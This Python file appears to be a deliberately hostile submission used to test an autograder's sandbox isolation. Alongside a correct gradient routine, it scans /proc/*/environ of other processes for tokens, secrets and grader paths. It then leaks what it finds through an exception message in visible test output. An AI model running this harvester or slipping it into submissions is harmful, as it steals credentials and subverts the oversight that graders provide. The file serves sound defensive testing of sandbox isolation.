"""HOSTILE: looks for secrets in its environment and in /proc/*/environ of every other process, and shows what
it found in an exception raised in every case-2 call, so that it reaches the output of a visible test.

Case 1 is correct, so the honest score is 50. The output must show the worker's own clean environment
(marker ENV-DUMP) and nothing of the grader's: no HOME=/root, no AUTOGRADER_ROOT, nothing under /root.
"""

import os

import numpy as np


def sigmoid(a):
    return 1.0 / (1.0 + np.exp(-a))


def _correct(z, t, W_kj, W_ji, case):
    y = sigmoid(z @ W_kj)
    a = y @ W_ji
    if case == "sigmoid":
        delta = sigmoid(a) - t
    else:
        e = np.exp(a - a.max())
        delta = e / e.sum() * t.sum() - t
    return np.outer(z, (W_ji @ delta) * y * (1 - y)), np.outer(y, delta)


def _loot():
    found = []
    for pid in sorted(os.listdir("/proc"), key=lambda p: (len(p), p)):
        if not pid.isdigit() or int(pid) == os.getpid():
            continue
        try:
            with open(f"/proc/{pid}/environ", "rb") as f:
                entries = f.read().decode("utf-8", "replace").split("\0")
        except OSError:
            continue
        found += [f"pid {pid}: {e}" for e in entries if e.split("=", 1)[0] in
                  ("HOME", "PATH", "AUTOGRADER_ROOT", "USER", "PWD") or "TOKEN" in e or "SECRET" in e]
    return found


_OTHERS = _loot()
_OWN = [f"{k}={v}" for k, v in sorted(os.environ.items())]


def compute_gradients(z, t, W_kj, W_ji, case):
    if case == "softmax":
        report = "ENV-DUMP other processes: " + " | ".join(_OTHERS[:40]) + " || own: " + " | ".join(_OWN)
        raise RuntimeError(report[:3000])
    return _correct(z, t, W_kj, W_ji, case)
